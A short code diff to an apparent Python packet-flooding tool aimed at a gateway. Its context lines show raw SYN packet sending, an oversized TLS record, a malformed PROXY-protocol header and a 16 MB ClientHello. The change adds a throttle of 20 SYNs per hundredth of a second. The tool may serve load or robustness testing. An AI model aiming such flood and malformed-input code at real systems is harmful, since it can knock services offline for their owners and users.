@@ -15,6 +15,7 @@ import socket
 import ssl
 import struct
 import sys
+import time
 from collections import Counter
 from collections.abc import Awaitable, Callable
 
@@ -26,6 +27,9 @@ RECORD = b"\x16\x03\x01\x40\x00" + bytes(16384)
 # The gateway's own word to the agent (a header of the PROXY protocol, version 2) of 64 kB, and a ClientHello of 16 MB.
 BEGINNINGS = (b"\r\n\r\n\0\r\nQUIT\n\x21\x11\xff\xff", b"\x16\x03\x01\x00\x04\x01\xff\xff\xff")
 SYN = 0x02
+# Of these in a hundredth of a second. More would be the work of who sends them: where that is the machine of who is
+# attacked, the kernel does it before all else.
+SYNS = 20
 Place = tuple[str, int]
 
 
@@ -116,7 +120,8 @@ def syn(place: Place) -> None:
             with contextlib.suppress(OSError):  # the card's queue is full
                 raw.sendto(packet, (place[0], 0))
             DONE["opened"] += 1
-            if not DONE["opened"] % 10_000:
+            if not DONE["opened"] % SYNS:
+                time.sleep(0.01)
                 tell()
 
 
